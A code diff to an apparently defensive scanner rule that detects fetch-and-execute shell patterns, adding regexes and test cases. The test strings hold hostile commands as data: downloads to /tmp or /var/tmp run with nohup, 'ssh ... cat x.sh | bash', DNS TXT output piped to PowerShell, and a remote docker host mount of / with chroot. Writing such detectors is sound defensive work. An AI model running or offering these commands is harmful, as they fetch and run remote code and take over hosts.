@@ -1,9 +1,16 @@
-import type { Rule } from '../../rule.js';
+import type { Candidate, Rule } from '../../rule.js';
 
 /** What is there is installed or applied, or is to be from now on. */
 const TAKES = /\s(?:install|i|add|apply|create|upgrade|set|-y|--yes|--(?:extra-)?index-url|--registry)[\s=]/;
 /** Addresses that lead nowhere outside (RFC 1918, RFC 1122, RFC 3927). */
 const OWN_NETWORK = /\/\/(?:0\.|10\.|127\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)[\d.]+.$/;
+const FROM_OWN_NETWORK = /\/\/(?:localhost|0\.|10\.|127\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/;
+
+/** What is run has the name of what was fetched. */
+const isWhatWasFetched = ({ text, after }: Candidate): boolean => {
+  const name = /^([\w.-]+)(?:[\s"'`;&|)\\]|$)/.exec(after)?.[1];
+  return name !== undefined && text.split(/[^\w.-]+/).includes(name) && !FROM_OWN_NETWORK.test(text);
+};
 
 export const rule: Rule = {
   pattern: 'pipe_to_shell',
@@ -39,6 +46,21 @@ export const rule: Rule = {
       // What is built from its source begins so; that is how software was installed for decades.
       accept: ({ after }) => !/^(?:onfig|utogen|ootstrap|uildconf)/.test(after),
     },
+    // Whatever fetched it: scp h:/x /tmp/x; chmod +x /tmp/x; /tmp/x
+    {
+      re: /(?<![\w.-])(?:curl|wget|fetch|axel|lwp-download|aria2c|nc|ncat|scp|sftp|rsync|ftp|smbclient)\s[^\n]*[;&\n][\s>$#]*(?:(?:sudo|nohup|exec|setsid)\s+)*(?:(?:(?:ba|z|da|a)?sh|python[\d.]*|perl|source|\.|insmod)\s+)?["']?(?:\/tmp|\/dev\/shm|\/var\/tmp)\//,
+      window: 320,
+      accept: isWhatWasFetched,
+    },
+    // A script from a bare address, run in the next line
+    {
+      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*:\/\/\d{1,3}(?:\.\d{1,3}){3}[:/][^\n]*[;&\n][\s>$#]*(?:sudo\s+)?(?:(?:ba|z|da|a)?sh|python[\d.]*|perl)\s+(?:\.\/)?/,
+      window: 320,
+      accept: isWhatWasFetched,
+    },
+    // ssh h cat x.sh | sh
+    { re: /(?<![\w.-])ssh\s[^\n;|&]*\scat\s[^\n;|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh(?![\w.-])/, window: 200 },
+    { re: /(?<![\w.-])nslookup(?:\.exe)?\s[^\n;|]*\|\s*(?:powershell|pwsh|cmd)(?:\.exe)?(?![\w.])/i, window: 160 },
     // tftp and ftpget of small devices, as worms use them
     { re: /(?<![\w.-])(?:tftp\s+-g\s|ftpget\s+-)[^\n]*(?:;|&&)\s*(?:chmod|(?:ba)?sh|\.\/)/, window: 300 },
     // (curl ... || wget ...) | sh
@@ -66,7 +88,7 @@ export const rule: Rule = {
       accept: ({ text }) => TAKES.test(text) && !OWN_NETWORK.test(text),
     },
     {
-      re: /(?<![\w.-])docker\s+run[^\n]*(?:\s-v\s*|\s--volume[= ]|\s--mount[= ][^\n]*src=)\/:\/[^\n]*chroot\s/,
+      re: /(?<![\w.-])docker\s+(?:-H\s+\S+\s+)?run[^\n]*(?:\s-v\s*|\s--volume[= ]|\s--mount[= ][^\n]*src=)\/:\/[^\n]*chroot\s/,
       window: 300,
     },
   ],
@@ -85,6 +107,12 @@ export const rule: Rule = {
       'fetch http://203.0.113.7/a && chmod +x a && ./a',
       'pip install --index-url http://203.0.113.7:8080/simple internal-tools',
       'npm config set registry http://203.0.113.7:4873/',
+      'scp root@203.0.113.7:/opt/x /tmp/x; chmod +x /tmp/x; /tmp/x',
+      'wget -qO /var/tmp/.cache http://203.0.113.7/.cache ; nohup /var/tmp/.cache >/dev/null &',
+      'curl -sO http://203.0.113.7/i.sh\nsh i.sh\n',
+      'ssh root@203.0.113.7 cat /x.sh | bash',
+      'nslookup -q=txt cmd.files.invalid | powershell -',
+      'docker -H tcp://10.0.0.5:2375 run -v /:/mnt alpine chroot /mnt',
       'kubectl apply -f http://203.0.113.7/p.yaml',
     ],
     silent: [
@@ -93,6 +121,10 @@ export const rule: Rule = {
       'curl https://files.invalid/x; echo done',
       'wget https://files.invalid/a.tar.gz && tar xzf a.tar.gz && ./configure && make',
       'host example.com | grep address',
+      'curl -o /tmp/a.tgz https://files.invalid/a.tgz; tar xf /tmp/a.tgz',
+      'curl -sO http://192.168.1.5/i.sh\nsh i.sh\n',
+      'curl -sL https://files.invalid/tool/master.tar.gz | tar xz -C /tmp/ && /tmp/tool-master/bin/tool',
+      'ssh host.invalid cat /var/log/app.log | grep x',
       'pip install --index-url http://10.0.0.5:8080/simple internal-tools',
       'npm config set registry http://127.0.0.1:4873/',
       'npm http fetch GET 200 http://203.0.113.7/pkg.tgz',
